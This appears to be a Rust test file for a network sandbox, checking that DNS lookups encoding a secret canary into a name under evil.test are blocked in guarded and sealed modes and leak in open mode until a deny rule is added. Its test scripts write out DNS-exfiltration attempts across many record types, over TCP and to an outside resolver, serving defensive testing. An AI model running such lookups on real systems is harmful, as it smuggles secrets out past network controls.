//! EG01: a secret in a name. `SECRET.evil.test` is asked for in sealed and guarded, of every type:
//! REFUSED with "blocked", and no query leaves the gate.

use crate::world::{World, answered, blocked, canary, refused};

#[test]
fn a_name_that_is_not_allowed_is_never_asked_upstream() {
    let world = World::guarded(&["good.test"]);
    world.add("s", "sealed", &[]);
    let secret = canary();
    // A, NS, CNAME, NULL, PTR, MX, TXT, AAAA, SRV, HTTPS, ANY, AXFR.
    let script = format!(
        "for kind in (1, 2, 5, 10, 12, 15, 16, 28, 33, 65, 255, 252):\n\
         \x20say(**dns('{secret}.evil.test', kind))\n\
         say(**dns('{secret}.evil.test', 16, tcp=True))\n\
         say(**dns('{secret}.evil.test', 1, to='8.8.8.8'))\n"
    );
    for (name, why) in [("c", "no_rule"), ("s", "sealed")] {
        let seen = world.run(name, &script);
        assert_eq!(seen.len(), 14);
        for (place, reading) in seen.iter().enumerate() {
            // In sealed a stream to port 53 is a flow like any other.
            if name == "s" && place == 12 {
                refused(reading);
                continue;
            }
            blocked(reading);
            assert_eq!(reading["answers"], 0);
        }
        world.denied(name, "dns", why, &secret);
    }
    // The resolver of the system's own library takes the same way.
    world.run("c", &format!("try: socket.getaddrinfo('{secret}.evil.test', 80)\nexcept OSError: pass"));
    world.no_leak(&secret);

    let seen = world.run("c", "a = address('good.test')\nsay(a=a)\nsay(**get(a, 'good.test'))");
    assert!(seen[0]["a"].as_str().is_some_and(|a| a.starts_with("198.1")), "a virtual address: {}", seen[0]);
    answered(&seen[1]);
    world.allowed("c", "dns", "good.test");
    // The witness would have seen it: in open the same lookup is let through, unless a rule denies it.
    world.add("o", "open", &[]);
    let other = canary();
    let seen = world.run("o", &format!("say(**dns('{other}.evil.test'))"));
    assert_eq!(seen[0]["addresses"][0], world.net.at(den_testkit::Site::Evil).to_string());
    world.leaks(&other);
    world.house.den(&["net", "o", "deny", "*.evil.test"]).ok();
    blocked(&world.run("o", &format!("say(**dns('{secret}.evil.test', 16))"))[0]);
    world.denied("o", "dns", "denied_rule", &secret);
    world.no_leak(&secret);
}
